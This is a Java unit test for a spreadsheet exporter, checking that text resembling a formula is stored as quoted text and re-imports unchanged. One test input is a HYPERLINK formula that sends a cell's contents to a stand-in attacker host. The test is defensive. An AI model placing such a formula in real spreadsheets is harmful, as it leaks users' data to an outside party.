package cn.lvzhi.common;

import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.util.List;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Exported text never acts as a formula in a spreadsheet, and an exported sheet imports back unchanged. */
class SheetWriterTest {
    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")", "@SUM(1)", "-2+3",
            "+86-10-12345678", "\t=1+1", "\r=1+1", "'=1+1");
    static final List<String> PLAIN = List.of("清河区生态环境局", "a=b", "2026-03-15", "");

    static byte[] export(List<String> texts) {
        List<List<Object>> rows = texts.stream().map(t -> List.<Object>of(-5, t)).toList();
        return SheetWriter.table("表", "=标题", List.of("序号", "内容"), rows, new int[] {6, 40});
    }

    @Test
    void textThatLooksLikeAFormulaIsWrittenAsQuotedText() throws IOException {
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(export(FORMULAS)))) {
            List<Row> rows = wb.getFirstSheet().read();
            assertEquals("'=标题", rows.get(0).getCell(0).getText());
            for (int i = 0; i < FORMULAS.size(); i++) {
                Row row = rows.get(i + 2);
                assertEquals("'" + FORMULAS.get(i), row.getCell(1).getText());
                assertFalse(row.getCell(1).getType().name().equals("FORMULA"), row.getCell(1)::toString);
                // numbers stay numbers, negative ones included
                assertEquals(new BigDecimal(-5), row.getCell(0).asNumber());
            }
        }
    }

    @Test
    void ordinaryTextIsWrittenAsIs() throws IOException {
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(export(PLAIN)))) {
            List<Row> rows = wb.getFirstSheet().read();
            for (int i = 0; i < PLAIN.size(); i++) {
                assertEquals(PLAIN.get(i), rows.get(i + 2).getCellText(1));
            }
        }
    }

    @Test
    void anExportedSheetImportsTheOriginalText() {
        List<SheetReader.SheetRow> rows = SheetReader.read(new ByteArrayInputStream(export(FORMULAS)), "内容", Set.of("序号", "内容"), 100, "测试");
        // the reader strips surrounding blanks, as it always has
        assertEquals(FORMULAS.stream().map(String::strip).toList(), rows.stream().map(r -> r.cells().get("内容")).toList());
        assertTrue(rows.stream().allMatch(r -> r.cells().get("序号").equals("-5")), rows::toString);
    }
}
